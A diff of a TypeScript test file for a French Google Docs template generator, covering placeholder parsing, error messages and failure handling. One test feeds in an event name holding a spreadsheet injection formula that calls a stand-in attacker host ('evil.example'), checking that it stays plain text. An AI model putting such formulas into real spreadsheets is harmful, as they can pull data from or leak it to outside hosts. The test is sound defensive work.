@@ -28,20 +28,36 @@ function setup(): {ws: Workspace; ss: FakeSpreadsheet} {
 function staffTemplate(ws: Workspace): FakeDocument {
   const doc = ws.createDocument('Modèle – dossier partenaires');
   const body = doc.getBody();
-  body.getParagraphs()[0].setText("Présentation de {{Nom de l'événement}} – du {{Date de début|date}}");
+  body
+    .getParagraphs()[0]
+    .setText(
+      "Présentation de {{Nom de l'événement}} – du {{Date de début|date}}",
+    );
   // "{{Sessions|nombre}}": "{{Sess" in bold, "ions|nombre}}" in italic.
-  const split = body.appendParagraph('Sessions : {{Sessions|nombre}} au total, budget {{Budget prévu}}.');
+  const split = body.appendParagraph(
+    'Sessions : {{Sessions|nombre}} au total, budget {{Budget prévu}}.',
+  );
   const text = split.editAsText();
   const start = 'Sessions : '.length;
   text.setBold(start, start + 5, true);
   text.setItalic(start + 6, start + '{{Sessions|nombre}}'.length - 1, true);
   body.appendTable([
     ['Animation', 'Date', 'Lieu'],
-    ['{{#programme}}{{Titre}}', '{{Date|date}}', '{{Lieu}} ({{Commune|majuscules}}){{/programme}}'],
+    [
+      '{{#programme}}{{Titre}}',
+      '{{Date|date}}',
+      '{{Lieu}} ({{Commune|majuscules}}){{/programme}}',
+    ],
     ['Total', '{{Sessions}}', ''],
   ]);
-  doc.addHeader().getParagraphs()[0].setText('{{Organisation}} – {{Événement}}');
-  doc.addFooter().getParagraphs()[0].setText('Document du {{Date du jour|date courte}}');
+  doc
+    .addHeader()
+    .getParagraphs()[0]
+    .setText('{{Organisation}} – {{Événement}}');
+  doc
+    .addFooter()
+    .getParagraphs()[0]
+    .setText('Document du {{Date du jour|date courte}}');
   return doc;
 }
 
@@ -55,22 +71,37 @@ describe('staff template', () => {
     const template = staffTemplate(ws);
     const url = `https://docs.google.com/document/d/${template.id}/edit`;
     const check = ws.callServer(ss, 'checkDocumentTemplate', [url]);
-    expect(check.value).toEqual({ok: true, message: 'Le modèle est valide : 12 champ(s) reconnu(s).'});
+    expect(check.value).toEqual({
+      ok: true,
+      message: 'Le modèle est valide : 12 champ(s) reconnu(s).',
+    });
 
-    const r = ws.callServer(ss, 'generateDocumentFromPage', ['tok_template1', {kind: 'presentation', template: url}]);
+    const r = ws.callServer(ss, 'generateDocumentFromPage', [
+      'tok_template1',
+      {kind: 'presentation', template: url},
+    ]);
     expect(r.error).toBeNull();
     expect(r.value).toMatchObject({ok: true});
-    const doc = docNamed(ws, 'Présentation – Fête de la science 2026 – 2026-10-01');
+    const doc = docNamed(
+      ws,
+      'Présentation – Fête de la science 2026 – 2026-10-01',
+    );
     expect(doc.id).not.toBe(template.id);
     const tree = documentTree(doc);
     const [header, body, footer] = tree.children!;
     expect(header.type).toBe('HEADER_SECTION');
-    expect(paragraphs(header)[0].text).toBe('Territoire de sciences – Fête de la science 2026');
+    expect(paragraphs(header)[0].text).toBe(
+      'Territoire de sciences – Fête de la science 2026',
+    );
     expect(footer.type).toBe('FOOTER_SECTION');
     expect(paragraphs(footer)[0].text).toBe('Document du 01/10/2026');
     const [first, second] = paragraphs(body);
-    expect(first.text).toBe('Présentation de Fête de la science – du vendredi 2 octobre 2026');
-    expect(second.text).toBe('Sessions : 4 au total, budget 8\u202f000,00\u202f€.');
+    expect(first.text).toBe(
+      'Présentation de Fête de la science – du vendredi 2 octobre 2026',
+    );
+    expect(second.text).toBe(
+      'Sessions : 4 au total, budget 8\u202f000,00\u202f€.',
+    );
     // The replacement takes the formatting of the placeholder's first character (bold).
     const four = second.runs!.find(run => run.text.includes('4'))!;
     expect(four.text).toBe('4');
@@ -82,19 +113,30 @@ describe('staff template', () => {
       ['Visite de laboratoire', 'samedi 10 octobre 2026', ' (GRENOBLE)'],
       ['Atelier robots', 'samedi 10 octobre 2026', 'Médiathèque (VOIRON)'],
       ['Planétarium', 'samedi 10 octobre 2026', 'Cosmocité (LE PONT-DE-CLAIX)'],
-      ['Conférence climat', 'dimanche 11 octobre 2026', 'Salle des fêtes (VOIRON)'],
+      [
+        'Conférence climat',
+        'dimanche 11 octobre 2026',
+        'Salle des fêtes (VOIRON)',
+      ],
       ['Total', '4', ''],
     ]);
     // The template itself is untouched.
     const original = documentTree(template);
     expect(JSON.stringify(original)).toContain('{{#programme}}');
-    expect(tabValues(ss, 'Documents').slice(1).map(row => [row[0], row[4]])).toEqual([['Présentation', 'terminé']]);
+    expect(
+      tabValues(ss, 'Documents')
+        .slice(1)
+        .map(row => [row[0], row[4]]),
+    ).toEqual([['Présentation', 'terminé']]);
   });
 
   it('reports unknown names with the closest known one, and unclosed placeholders, before making anything', () => {
     const {ws, ss} = setup();
     const doc = ws.createDocument('Modèle fautif');
-    doc.getBody().getParagraphs()[0].setText('Du {{Date de dbut|date}} : {{Sessions|nombr}} sessions');
+    doc
+      .getBody()
+      .getParagraphs()[0]
+      .setText('Du {{Date de dbut|date}} : {{Sessions|nombr}} sessions');
     doc.getBody().appendParagraph('Contact : {{Responsable');
     doc.addFooter().getParagraphs()[0].setText('{{Lieu principale}}');
     const before = ws.documents.length;
@@ -108,36 +150,62 @@ describe('staff template', () => {
         'Champ non fermé « {{Responsable » (corps du document) : il manque les accolades fermantes. ' +
         'Champ inconnu « Lieu principale » (pied de page) : vouliez-vous dire « Lieu principal » ?',
     });
-    const r = ws.callServer(ss, 'generateDocumentFromPage', ['tok_template2', {kind: 'followup', template: doc.id}]);
-    expect(r.value).toMatchObject({ok: false, message: expect.stringContaining('Champ inconnu « Date de dbut »')});
+    const r = ws.callServer(ss, 'generateDocumentFromPage', [
+      'tok_template2',
+      {kind: 'followup', template: doc.id},
+    ]);
+    expect(r.value).toMatchObject({
+      ok: false,
+      message: expect.stringContaining('Champ inconnu « Date de dbut »'),
+    });
     expect(ws.documents.length).toBe(before);
-    expect(ws.files.filter(f => f.kind === 'folder' && f.currentName().includes('documents'))).toHaveLength(0);
+    expect(
+      ws.files.filter(
+        f => f.kind === 'folder' && f.currentName().includes('documents'),
+      ),
+    ).toHaveLength(0);
   });
 
   it('refuses a template that is not a Google Doc, cannot be opened, or repeats outside a table row', () => {
     const {ws, ss} = setup();
     const other = ws.createSpreadsheet('Budget 2026');
-    const notDoc = ws.callServer(ss, 'generateDocumentFromPage', ['tok_template3', {kind: 'presentation', template: other.getId()}]);
+    const notDoc = ws.callServer(ss, 'generateDocumentFromPage', [
+      'tok_template3',
+      {kind: 'presentation', template: other.getId()},
+    ]);
     expect(notDoc.value).toEqual({
       ok: false,
       message:
         "Le fichier « Budget 2026 » n'est pas un document Google Docs : choisissez un document Google Docs comme modèle.",
     });
-    const missing = ws.callServer(ss, 'checkDocumentTemplate', ['1xYzInconnu000000000000']);
+    const missing = ws.callServer(ss, 'checkDocumentTemplate', [
+      '1xYzInconnu000000000000',
+    ]);
     expect(missing.value).toEqual({
       ok: false,
-      message: "Le modèle « 1xYzInconnu000000000000 » est introuvable ou vous n'y avez pas accès.",
+      message:
+        "Le modèle « 1xYzInconnu000000000000 » est introuvable ou vous n'y avez pas accès.",
     });
     const words = ws.callServer(ss, 'checkDocumentTemplate', ['mon modèle']);
-    expect(words.value).toMatchObject({ok: false, message: expect.stringContaining("n'est ni l'adresse")});
+    expect(words.value).toMatchObject({
+      ok: false,
+      message: expect.stringContaining("n'est ni l'adresse"),
+    });
     const loose = ws.createDocument('Modèle sans tableau');
-    loose.getBody().getParagraphs()[0].setText('{{#programme}}{{Titre}}{{/programme}}');
+    loose
+      .getBody()
+      .getParagraphs()[0]
+      .setText('{{#programme}}{{Titre}}{{/programme}}');
     const r = ws.callServer(ss, 'checkDocumentTemplate', [loose.id]);
     expect(r.value).toMatchObject({
       ok: false,
-      message: expect.stringContaining('doit se trouver dans une ligne de tableau'),
+      message: expect.stringContaining(
+        'doit se trouver dans une ligne de tableau',
+      ),
     });
-    expect(ws.documents.filter(d => d.name.startsWith('Présentation'))).toHaveLength(0);
+    expect(
+      ws.documents.filter(d => d.name.startsWith('Présentation')),
+    ).toHaveLength(0);
   });
 });
 
@@ -145,11 +213,15 @@ describe('bad input', () => {
   it('a deleted documents folder: a clear message and no document', () => {
     const {ws, ss} = setup();
     ws.clickMenu(ss, 'Générer la présentation');
-    const folderId = JSON.parse(ws.properties.document(ss.getId()).get('tds.settings')!).documentsFolderId;
+    const folderId = JSON.parse(
+      ws.properties.document(ss.getId()).get('tds.settings')!,
+    ).documentsFolderId;
     ws.files.find(f => f.id === folderId)!.trashed = true;
     const before = ws.documents.length;
     ws.clickMenu(ss, "Générer le point d'étape");
-    expect(ws.ui.lastPage()!.html).toContain('Le dossier Drive des documents est introuvable');
+    expect(ws.ui.lastPage()!.html).toContain(
+      'Le dossier Drive des documents est introuvable',
+    );
     expect(ws.documents.length).toBe(before);
   });
 
@@ -163,8 +235,14 @@ describe('bad input', () => {
     ws.clickMenu(ss, 'Générer la présentation');
     expect(ws.ui.lastPage()!.html).toContain('Le programme est vide');
     expect(ws.documents).toHaveLength(0);
-    const fiches = ws.callServer(ss, 'generateDocumentFromPage', ['tok_empty001', {kind: 'ficheCommune'}]);
-    expect(fiches.value).toMatchObject({ok: false, message: expect.stringContaining('Le programme est vide')});
+    const fiches = ws.callServer(ss, 'generateDocumentFromPage', [
+      'tok_empty001',
+      {kind: 'ficheCommune'},
+    ]);
+    expect(fiches.value).toMatchObject({
+      ok: false,
+      message: expect.stringContaining('Le programme est vide'),
+    });
   });
 
   it('an event name holding a formula is plain text in the document and never a live formula in Documents', () => {
@@ -177,10 +255,51 @@ describe('bad input', () => {
     const r = ws.clickMenu(ss, 'Générer la présentation');
     expect(r.error).toBeNull();
     const doc = ws.documents.find(d => d.name.startsWith('Présentation'))!;
-    expect(documentTree(doc).children![0].children![0].text).toBe('=IMPORTXML("http://evil.example";"//a") 2026');
+    expect(documentTree(doc).children![0].children![0].text).toBe(
+      '=IMPORTXML("http://evil.example";"//a") 2026',
+    );
     const sheet = ss.getSheetByName('Documents')!;
-    const formulas = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas();
+    const formulas = sheet
+      .getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn())
+      .getFormulas();
     expect(formulas.flat().filter(f => f !== '')).toEqual([]);
     expect(String(tabValues(ss, 'Documents')[1][2])).toContain('=IMPORTXML');
+  });
+
+  it('a Docs failure in the middle: the half-made document is trashed and logged "échec"', () => {
+    const {ws, ss} = setup();
+    // The 3rd table append of the run fails, as Google's "Service error: Documents".
+    ws.failAt({
+      fn: 'generatePresentation',
+      service: 'Body',
+      method: 'appendTable',
+      callIndex: 3,
+    });
+    const r = ws.clickMenu(ss, 'Générer la présentation');
+    expect(r.error).toBeNull();
+    const name = 'Présentation – Fête de la science 2026 – 2026-10-01';
+    expect(ws.ui.lastPage()!.html).toContain(
+      `La génération de « ${name} » a échoué ; le document inachevé a été mis à la corbeille.`,
+    );
+    const doc = docNamed(ws, name);
+    expect(ws.files.find(f => f.id === doc.id)!.trashed).toBe(true);
+    expect(
+      tabValues(ss, 'Documents')
+        .slice(1)
+        .map(row => [row[2], row[3], row[4], row[5]]),
+    ).toEqual([
+      [
+        name,
+        '',
+        'échec',
+        'Une erreur inattendue est survenue : Service error: Body',
+      ],
+    ]);
+    // Generating again works and takes the same name (the failed one is in the trash).
+    ws.clickMenu(ss, 'Générer la présentation');
+    const again = ws.documents.filter(
+      d => d.name === name && !ws.files.find(f => f.id === d.id)!.trashed,
+    );
+    expect(again).toHaveLength(1);
   });
 });
